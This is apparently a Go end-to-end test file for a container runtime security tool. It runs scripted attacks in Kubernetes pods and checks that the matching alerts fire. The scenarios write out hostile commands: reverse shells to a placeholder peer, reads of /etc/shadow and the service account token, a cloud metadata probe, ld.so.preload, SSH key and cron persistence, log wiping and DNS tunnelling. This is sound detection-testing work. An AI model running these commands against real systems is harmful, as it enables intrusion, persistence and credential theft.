package e2e

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"seawall.io/seawall"
)

// scenario is one attack, carried out in a container of its own.
type scenario struct {
	id   string // of the attack; what a container is named after
	name string
	// do is a shell's command line, or a program in Python where it says so. PEER is
	// the address of another pod.
	do         string
	python     bool
	privileged bool
	add        string // a capability
	server     bool   // done by the container's own process, once the file /tmp/go is there
	quiet      bool   // the container runs Python and was never seen to run a shell
	// want are the checks that must fire, all of them; of those joined by | one.
	want []string
}

// attacks are what intruders do in containers, from the first command to the way out.
var attacks = []scenario{
	{id: "a02", name: "reverse shell in Python", python: true, do: `
s = socket.create_connection(("PEER", 4444))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "true"])`, want: []string{"reverse-shell-stdio"}},
	{id: "a03", name: "reverse shell by netcat", do: "timeout 3 nc PEER 4444 -e /bin/sh", want: []string{"reverse-shell-stdio", "netcat-runs-program"}},
	{id: "a06", name: "a dropped program named like a miner", do: "cp /bin/busybox /tmp/kdevtmpfsi; /tmp/kdevtmpfsi true", want: []string{"dropped-program-executed|writable-layer-program"}},
	{id: "a07", name: "a program of the image changed, then run", do: "touch /bin/busybox; /bin/ls > /dev/null; cat /etc/passwd > /dev/null; exec /bin/busybox true", want: []string{"image-program-changed"}},
	{id: "a08", name: "a program that is in memory only", python: true, do: `
fd = os.memfd_create("x", 0)
os.write(fd, open("/bin/busybox", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["true"])`, want: []string{"program-in-memory-only"}},
	{id: "a11", name: "a program in shared memory, by the loader", do: "cp /bin/bash /dev/shm/b; /dev/shm/b -c true; /lib64/ld-linux-x86-64.so.2 /dev/shm/b -c true", want: []string{"shared-memory-program|loader-runs-dropped-program"}},
	{id: "a12", name: "the loader runs a dropped program", do: "cp /bin/bash /tmp/b; /lib64/ld-linux-x86-64.so.2 /tmp/b -c true", want: []string{"loader-runs-dropped-program"}},
	{id: "a13", name: "a dropped library preloaded", do: "cp /lib/x86_64-linux-gnu/libz.so.1 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so bash -c true", want: []string{"dropped-library-loaded"}},
	{id: "a14", name: "a library preloaded into everything", do: "echo /tmp/evil.so > /etc/ld.so.preload", want: []string{"preload-file-written"}},
	{id: "a16", name: "a dropped script", do: `printf '#!/bin/sh\ntrue\n' > /tmp/dropped.sh; chmod +x /tmp/dropped.sh; sh /tmp/dropped.sh; /tmp/dropped.sh`, want: []string{"dropped-script-run"}},
	{id: "a17", name: "a decoded payload piped to a shell", do: "echo dHJ1ZQo= | /bin/base64 -d | /bin/sh", want: []string{"decoded-payload-run|shell-fed-through-pipes|encoded-code-run"}},
	{id: "a19", name: "the service account's token read", do: "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null", want: []string{"token-read-by-tool|token-read-unlearnt"}},
	{id: "a21", name: "password hashes read", do: "cat /etc/shadow", want: []string{"shadow-read"}},
	{id: "a22", name: "password hashes read through a link", do: "ln -s /etc/shadow /tmp/innocent; cat /tmp/innocent", want: []string{"shadow-read"}},
	{id: "a24", name: "a file opened through io_uring", python: true, do: uring, want: []string{"io-uring-set-up|io-uring-hides-acts"}},
	{id: "a26", name: "another process's environment read", do: "cat /proc/1/environ > /dev/null", want: []string{"other-process-environment"}},
	{id: "a28", name: "a search for private keys", do: "/bin/find / -xdev -name id_rsa", want: []string{"credential-search"}},
	{id: "a29", name: "the cloud's metadata asked", do: "nc -w 1 169.254.169.254 80 < /dev/null", want: []string{"cloud-metadata-reached"}},
	{id: "a31", name: "the API server asked", do: "nc -w 1 10.96.0.1 443 < /dev/null", want: []string{"kubernetes-api-by-tool|kubernetes-api-unlearnt"}},
	{id: "a32", name: "a mining pool looked up", do: "nslookup pool.minergate.com", want: []string{"mining-pool-asked"}},
	{id: "a34", name: "a miner's login", python: true, do: `
s = socket.create_connection(("PEER", 3333))
s.send(b'{"id":1,"method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6"}}\n')
time.sleep(0.3)`, want: []string{"mining-protocol"}},
	{id: "a35", name: "a user namespace", do: "unshare -U true", want: []string{"user-namespace-made|namespace-unshared"}},
	{id: "a37", name: "into another process's namespace", do: "nsenter -t 1 -n true", privileged: true, want: []string{"namespace-entered|nsenter-into-node|namespace-changed"}},
	{id: "a39", name: "a mount", do: "mkdir -p /mnt && mount -t tmpfs none /mnt", add: "SYS_ADMIN", want: []string{"mount-in-container"}},
	{id: "a41", name: "the release agent of control groups", do: "mkdir /tmp/c; mount -t cgroup -o pids none /tmp/c && : >> /tmp/c/release_agent; umount /tmp/c", privileged: true, want: []string{"release-agent-written"}},
	{id: "a43", name: "attached to another process", python: true, do: `
child = subprocess.Popen(["sleep", "5"])
time.sleep(0.2)
libc.ptrace(16, child.pid, None, None)
child.kill()`, want: []string{"ptrace-attach"}},
	{id: "a44", name: "another process's memory written", python: true, do: `
child = subprocess.Popen(["sleep", "5"])
time.sleep(0.2)
libc.process_vm_writev(child.pid, None, 0, None, 0, 0)
child.kill()`, want: []string{"process-memory-written|process-memory-injected"}},
	{id: "a45-bpf", name: "bpf", python: true, do: "libc.syscall(321, 0, None, 0)", want: []string{"ebpf-used"}},
	{id: "a45-module", name: "a kernel module", python: true, do: "libc.syscall(313, -1, None, 0)", want: []string{"kernel-module-loaded"}},
	{id: "a45-perf", name: "performance counters", python: true, do: "libc.syscall(298, None, 0, -1, -1, 0)", want: []string{"perf-event-opened"}},
	{id: "a45-kexec", name: "another kernel", python: true, do: "libc.syscall(246, 0, 0, None, 0)", want: []string{"kexec-called"}},
	{id: "a45-keyctl", name: "the kernel's keys", python: true, do: "libc.syscall(250, 11, 1, None, 0)", want: []string{"keyring-used"}},
	{id: "a45-uffd", name: "page faults handled by a program", python: true, do: "libc.syscall(323, 1)", want: []string{"userfaultfd-created"}},
	{id: "a45-handle", name: "a file opened by its handle", python: true, do: "libc.syscall(304, -100, None, 0)", want: []string{"file-opened-by-handle"}},
	{id: "a46-pivot", name: "pivot_root", python: true, privileged: true, do: `
os.mkdir("/tmp/new")
libc.unshare(0x20000)                                       # CLONE_NEWNS
libc.mount(None, b"/", None, 0x44000, None)                 # MS_REC|MS_PRIVATE
libc.mount(b"/tmp/new", b"/tmp/new", None, 0x1000, None)    # MS_BIND
os.chdir("/tmp/new")
if libc.syscall(155, b".", b".") != 0: sys.exit("pivot_root: %d" % ctypes.get_errno())`, want: []string{"root-directory-changed"}},
	{id: "a46-chroot", name: "chroot", do: "chroot / true", want: []string{"root-directory-changed"}},
	{id: "a47", name: "a packet socket", python: true, do: "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))", want: []string{"raw-socket"}},
	{id: "a48", name: "a setuid bit", do: "cp /bin/busybox /tmp/s; chmod 4755 /tmp/s", want: []string{"setuid-bit-set"}},
	{id: "a50", name: "root taken back", python: true, do: "os.setresuid(65534, 65534, 0); os.setresuid(0, 0, 0)", want: []string{"root-taken-back"}},
	{id: "a51-history", name: "a shell's history removed", do: "rm /root/.bash_history", want: []string{"shell-history-removed"}},
	{id: "a52", name: "a cron job", do: "echo '* * * * * root true' > /etc/cron.d/x", want: []string{"scheduled-job-written"}},
	{id: "a53", name: "a key to log in with", do: "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", want: []string{"authorized-keys-written"}},
	{id: "a54", name: "a tool among the programs", do: "cp /bin/busybox /usr/bin/tool", want: []string{"program-folder-written"}},
	{id: "a56", name: "a back door that listens", do: "timeout 1 nc -l -p 31337", want: []string{"backdoor-listens|listener-unlearnt"}},
	{id: "a57", name: "a port scan", python: true, do: `
for port in range(2000, 2060):
    s = socket.socket(); s.settimeout(0.05)
    s.connect_ex(("PEER", port)); s.close()`, want: []string{"port-scan"}},
	{id: "a59", name: "a tunnel through DNS", do: "for i in 1 2 3 4 5 6 7 8 9 10 11 12; do nslookup $(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \\n').t.example.net; done > /dev/null", want: []string{"dns-tunnel"}},
	{id: "a60", name: "a fork bomb, bounded", do: "i=0; while [ $i -lt 400 ]; do /bin/true & i=$((i+1)); done; wait", want: []string{"process-storm"}},
	{id: "a01", name: "a command put into the container", do: "id", quiet: true, want: []string{"command-put-into-container"}},
	{id: "a51-log", name: "a log emptied", do: ": > /var/log/auth.log", want: []string{"log-cleared"}},
	{id: "a62", name: "a server's shell", server: true, python: true, do: `
while not os.path.exists("/tmp/go"): time.sleep(0.1)
subprocess.run("whoami; true", shell=True)
time.sleep(1000000)`, want: []string{"application-spawns-shell|server-spawns-shell"}},
}

// preamble is what the programs in Python begin with.
const preamble = "import ctypes, mmap, os, socket, struct, subprocess, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"

// uring opens /etc/shadow through a ring: one submission of IORING_OP_OPENAT.
const uring = `
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)
if fd < 0: sys.exit("io_uring_setup: %d" % ctypes.get_errno())
word = lambda at: struct.unpack_from("I", params, at)[0]
ring = mmap.mmap(fd, word(40 + 24) + 4 * word(0), mmap.MAP_SHARED, offset=0)
sqes = mmap.mmap(fd, 64 * word(0), mmap.MAP_SHARED, offset=0x10000000)
path = ctypes.create_string_buffer(b"/etc/shadow")
struct.pack_into("=BBHiQQII", sqes, 0, 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0)
struct.pack_into("I", ring, word(40 + 24), 0)
tail = word(40 + 4)
struct.pack_into("I", ring, tail, struct.unpack_from("I", ring, tail)[0] + 1)
if libc.syscall(426, fd, 1, 1, 1, None, 0) != 1: sys.exit("io_uring_enter: %d" % ctypes.get_errno())`

// command is what the container runs.
func (s *scenario) command(peer string) []string {
	text := strings.ReplaceAll(s.do, "PEER", peer)
	if s.python {
		return []string{"python3", "-c", preamble + text}
	}
	return []string{"sh", "-c", text}
}

// victims is a pod with a container for each scenario.
func victims(name string, rows []scenario) string {
	var b strings.Builder
	fmt.Fprintf(&b, `
apiVersion: apps/v1
kind: Deployment
metadata: {name: %[1]s, namespace: attacked}
spec:
  selector: {matchLabels: {app: %[1]s}}
  template:
    metadata: {labels: {app: %[1]s}}
    spec:
      terminationGracePeriodSeconds: 0
      containers:
`, name)
	for _, s := range rows {
		fmt.Fprintf(&b, "        - {name: %s, image: %q, securityContext: {privileged: %t, capabilities: {add: [%s]}}", s.id, victimImage, s.privileged, s.add)
		if s.server {
			var argv []string
			for _, arg := range s.command("") {
				argv = append(argv, fmt.Sprintf("%q", arg))
			}
			fmt.Fprintf(&b, ", command: [%s]", strings.Join(argv, ", "))
		}
		if s.quiet {
			b.WriteString(`, command: [python3, -c, "import time; time.sleep(1000000)"]`)
		}
		b.WriteString("}\n")
	}
	return b.String()
}

// perVictim is how many scenarios share a pod.
const perVictim = 18

// lure starts the pods that are to be attacked, so that they are no longer starting
// when that happens: many checks grant containers a minute.
func (a *api) lure(t *testing.T) {
	t.Helper()
	a.mustApply(t, namespace("attacked", nil))
	a.mustApply(t, []byte(`
apiVersion: v1
kind: Pod
metadata: {name: peer, namespace: attacked, labels: {app: peer}}
spec:
  terminationGracePeriodSeconds: 0
  containers:
    - {name: main, image: "`+victimImage+`", command: [sh, -c, "while true; do nc -l -p 3333; done & while true; do nc -l -p 4444; done"]}
`))
	for i := 0; i < len(attacks); i += perVictim {
		a.mustApply(t, []byte(victims(fmt.Sprintf("victim-%d", i/perVictim), attacks[i:min(i+perVictim, len(attacks))])))
	}
}

// TestRuntimeScenarios carries out attacks for real and looks for the alerts of each.
func TestRuntimeScenarios(t *testing.T) {
	a, g := guarded(t)
	peer := a.readyPods(t, "attacked", "app=peer", 1)[0].Status.PodIP
	pods, workloads := map[string]string{}, map[string]string{} // of each scenario
	for i, s := range attacks {
		workloads[s.id] = fmt.Sprintf("victim-%d", i/perVictim)
		if i%perVictim == 0 {
			pods[s.id] = a.readyPods(t, "attacked", "app="+workloads[s.id], 1)[0].Metadata.Name
		} else {
			pods[s.id] = pods[attacks[i-1].id]
		}
	}
	const startup = 65 * time.Second
	if left := time.Until(g.lured.Add(startup)); left > 0 {
		t.Logf("waiting %v until the containers are no longer starting", left.Round(time.Second))
		time.Sleep(left)
	}

	var delays []time.Duration
	for _, s := range attacks {
		t.Run(s.id, func(t *testing.T) {
			pod := pods[s.id]
			argv := s.command(peer)
			var out string
			if s.server {
				argv = []string{"python3", "-c", argv[2]}
				out, _ = g.exec(t, "attacked", pod, s.id, "touch", "/tmp/go")
			} else {
				out, _ = g.exec(t, "attacked", pod, s.id, argv...)
			}
			deadline := time.Now().Add(alertLimit)
			var missing []string
			var found map[string]*heard
			for {
				found = map[string]*heard{}
				for _, h := range g.alertsOf("attacked", pod, s.id) {
					if found[h.Check] == nil {
						found[h.Check] = h
					}
				}
				missing = slices.DeleteFunc(slices.Clone(s.want), func(one string) bool {
					return slices.ContainsFunc(strings.Split(one, "|"), func(id string) bool { return found[id] != nil })
				})
				if len(missing) == 0 || time.Now().After(deadline) {
					break
				}
				time.Sleep(20 * time.Millisecond)
			}
			if len(missing) > 0 {
				t.Errorf("%s: %s said nothing; %s did\n%s", s.name, strings.Join(missing, ", "), strings.Join(sortedKeys(found), ", "), out)
				return
			}
			for _, id := range sortedKeys(found) {
				h := found[id]
				if !slices.ContainsFunc(s.want, func(w string) bool { return slices.Contains(strings.Split(w, "|"), id) }) {
					continue
				}
				delays = append(delays, h.at.Sub(h.Event.Time))
				checkStory(t, &s, h, workloads[s.id], argv)
			}
			t.Logf("%s: %s", s.name, strings.Join(sortedKeys(found), ", "))
		})
	}
	if len(delays) > 0 {
		slices.Sort(delays)
		t.Logf("%d alerts, from the act to the reader: p50 %v, p99 %v, most %v", len(delays), delays[len(delays)/2], delays[len(delays)*99/100], delays[len(delays)-1])
	}
}

// checkStory holds an alert to who did it, where, and how it came about.
func checkStory(t *testing.T, s *scenario, h *heard, workload string, argv []string) {
	t.Helper()
	ev := h.Event
	if ev.Pod.Workload.String() != "Deployment/"+workload || ev.Identity != seawall.Resolved || ev.Container.Image != victimImage && !strings.HasSuffix(ev.Container.Image, victimImage) || ev.Container.Digest == "" {
		t.Errorf("%s: workload %s, identity %s, container %+v", h.Check, ev.Pod.Workload, ev.Identity, ev.Container)
	}
	if h.Message == "" || h.Incident == "" || h.Title == "" {
		t.Errorf("%s: message %q, incident %q, title %q", h.Check, h.Message, h.Incident, h.Title)
	}
	if ev.Process == nil {
		return
	}
	var chain []string
	began := false
	for p := ev.Process; p != nil; p = p.Parent {
		chain = append(chain, fmt.Sprintf("%s %.40q %s", p.Exe, p.Args, p.Entry))
		began = began || len(p.Args) > 0 && slices.Equal(p.Args[:min(len(p.Args), len(argv))], argv) || p.ArgsBytes > 4096
	}
	// The program that was put in may have become another, which then is the entry.
	last := ev.Process
	for last.Parent != nil && last.Entry == "" {
		last = last.Parent
	}
	if !began && last.Entry == "" {
		t.Errorf("%s: the process chain does not lead to what was put in: %s", h.Check, strings.Join(chain, " < "))
	}
}
